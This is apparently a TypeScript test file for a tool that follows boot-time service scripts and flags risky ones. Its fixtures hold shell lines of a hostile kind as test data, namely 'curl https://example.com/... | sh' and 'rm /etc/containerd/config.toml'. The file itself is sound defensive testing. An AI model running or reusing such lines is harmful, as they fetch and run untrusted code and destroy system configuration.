import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type BootText, scriptText } from '../../../../src/platforms/scripts/follow/boot-text.ts';
import { scriptFollower } from '../../../../src/platforms/scripts/follow/follow-scripts.ts';
import { delayedTree } from '../../../support/delayed-tree.ts';
import { type MemoryFile, memoryTree } from '../../../support/memory-tree.ts';

type Files = Record<string, MemoryFile>;

const CONFIG = '/etc/containerd/config.toml';
const text = (name: string, commands: string): BootText => scriptText(`/etc/${name}.service`, commands, 'shell');

/** `width` scripts, each of which starts the next of `depth` others, the last of which writes; one download in each. */
function nested(width: number, depth: number): { readonly files: Files; readonly texts: readonly BootText[] } {
  const files: Files = {};
  const texts: BootText[] = [];
  for (let at = 0; at < width; at += 1) {
    texts.push(text(`u${at}`, `/opt/${at}-0.sh`));
    for (let level = 0; level < depth; level += 1) {
      const next = level + 1 < depth ? `/opt/${at}-${level + 1}.sh` : `rm ${CONFIG}`;
      files[`/opt/${at}-${level}.sh`] = `#!/bin/sh\ncurl https://example.com/${level} | sh\n${next}\n`;
    }
  }
  return { files, texts };
}

describe('followed scripts', () => {
  it('are read a level at a time, however many there are', async () => {
    const roundsOf = async (width: number, depth: number): Promise<number> => {
      const { files, texts } = nested(width, depth);
      const delayed = delayedTree(memoryTree(files));
      const followed = await scriptFollower(delayed.tree, [])(texts);
      expect(followed.map(({ scripts }) => scripts)).toMatchObject(
        texts.map((_, at) => [{ path: `/opt/${at}-${depth - 1}.sh`, writes: 'containerd' }]),
      );
      expect(delayed.questions()).toBeGreaterThanOrEqual(2 * width * depth);
      return delayed.rounds();
    };
    const [one, many, deep, deeper] = [
      await roundsOf(1, 1),
      await roundsOf(12, 1),
      await roundsOf(12, 2),
      await roundsOf(12, 5),
    ];
    expect(many).toBe(one);
    expect(deeper - deep).toBe(3 * (deep - many));
  });

  it('are told in the same order whichever is read first', async () => {
    const { files, texts } = nested(12, 3);
    const more: Files = {
      ...files,
      '/opt/all.sh': '#!/bin/sh\nfor one in /opt/parts/*; do "$one"; done\nsh /opt/unread\nsh /opt/4-0.sh\n',
      '/opt/unread': { unreadable: 'x' },
      ...Object.fromEntries(
        Array.from({ length: 9 }, (_, at) => [`/opt/parts/${at}`, `#!/bin/sh\nedit-${at} ${CONFIG}\n`]),
      ),
    };
    const all = [...texts, text('all', 'sh /opt/all.sh')];
    const expected = await scriptFollower(memoryTree(more), [])(all);
    expect(expected.at(-1)!.doubts.map(({ location }) => `${location?.path}:${location?.startLine}`)).toEqual([
      '/opt/all.sh:3',
      ...Array.from({ length: 9 }, (_, at) => `/opt/parts/${at}:2`),
      '/opt/4-0.sh:2',
      '/opt/4-1.sh:2',
      '/opt/4-2.sh:2',
    ]);
    await fc.assert(
      fc.asyncProperty(fc.infiniteStream(fc.nat()), async (keys) => {
        const delayed = delayedTree(memoryTree(more), (due) => {
          const keyed = due.map((one) => ({ one, key: keys.next().value as number }));
          return keyed.toSorted((a, b) => a.key - b.key).map(({ one }) => one);
        });
        expect(await scriptFollower(delayed.tree, [])(all)).toEqual(expected);
      }),
      { numRuns: 20 },
    );
  });

  it('share their bounds, and the first ones have them', async () => {
    const many = (name: string): Files =>
      Object.fromEntries(Array.from({ length: 600 }, (_, at) => [`/opt/${name}/${at}.sh`, '#!/bin/sh\n']));
    const texts = ['a', 'b', 'c'].map((name) => {
      const commands = Object.keys(many(name)).join('\n');
      return text(name, commands);
    });
    const delayed = delayedTree(memoryTree({ ...many('a'), ...many('b'), ...many('c') }), (due) => due.toReversed());
    const followed = await scriptFollower(delayed.tree, [])(texts);
    expect(followed.map(({ doubts }) => doubts.map(({ kind, location }) => `${kind}:${location?.startLine}`))).toEqual([
      [],
      ['boot-too-much:401'],
      ['boot-too-much:1'],
    ]);
  });

  it('are read no further than the bounds', async () => {
    const scripts = Array.from({ length: 5000 }, (_, at) => `/opt/${at}.sh`);
    const files = Object.fromEntries(scripts.map((path) => [path, '#!/bin/sh\n']));
    const delayed = delayedTree(memoryTree(files));
    await scriptFollower(delayed.tree, [])([text('a', scripts.join('\n'))]);
    expect(delayed.questions()).toBeLessThan(2200);
  });
});
